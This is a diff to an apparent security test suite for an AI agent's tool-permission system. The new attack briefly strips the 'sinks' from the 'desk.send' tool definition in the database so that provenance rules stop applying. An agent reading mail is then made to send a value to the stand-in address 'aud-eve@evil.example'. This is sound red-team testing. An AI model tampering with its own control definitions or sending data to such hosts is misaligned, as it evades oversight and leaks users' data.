@@ -8,6 +8,9 @@ from tests.attacks.attack import Position, attack
 from tests.attacks.corpus.audit import located, watched
 from tests.attacks.target import Target, pending_gates
 
+from towpath_contracts.tools.calls import ToolSpec
+from towpath_tas.core.tools.registry import spec_digest
+
 IN_FORCE = "WHERE project = 'default' AND name = 'desk.label' AND status = 'accepted'"
 PROJECT_MOVED = "UPDATE tas.project_state SET registry_version = registry_version + 1 WHERE project = 'default'"
 
@@ -163,4 +166,28 @@ async def take_a_withdrawn_tool_in_for_a_moment(target: Target) -> str:
             (await admin.post("/v1/tools/desk.label/proposal", json=said)).raise_for_status()
         if not target.effects()[done:]:
             return f"nothing was labelled, and the run is {run['status']}"
+        return located(await report())
+
+
+@attack(Position.DATABASE_ADMIN)
+async def rewrite_a_definition_for_a_moment(target: Target) -> str:
+    """Let a tool seem to have no sinks, so that no rule asks where its values come from, send, and put that back."""
+    of_tool = "WHERE project = 'default' AND name = 'desk.send'"
+    put = f"UPDATE tas.tool SET spec = $1::json, digest = $2 {of_tool} AND version = $3"
+    async with target.client("aud-24") as client, target.database() as database, watched(target) as report:
+        done = len(target.effects())
+        row = await database.fetchrow(
+            f"SELECT spec::text AS spec, digest, version FROM tas.tool {of_tool} ORDER BY 3 DESC"
+        )
+        other = ToolSpec.model_validate_json(row["spec"]).model_copy(update={"sinks": ()})
+        await database.execute(put, other.model_dump_json(), spec_digest(other), row["version"])
+        await database.execute(PROJECT_MOVED)
+        try:
+            asked = ("desk.send", {"to": "aud-eve@evil.example", "text": "92"})
+            run = await target.run(client, [("desk.mail", {}), asked], "Read the mail.")
+        finally:
+            await database.execute(put, row["spec"], row["digest"], row["version"])
+            await database.execute(PROJECT_MOVED)
+        if not target.effects()[done:]:
+            return f"nothing was sent, and the run is {run['status']}"
         return located(await report())
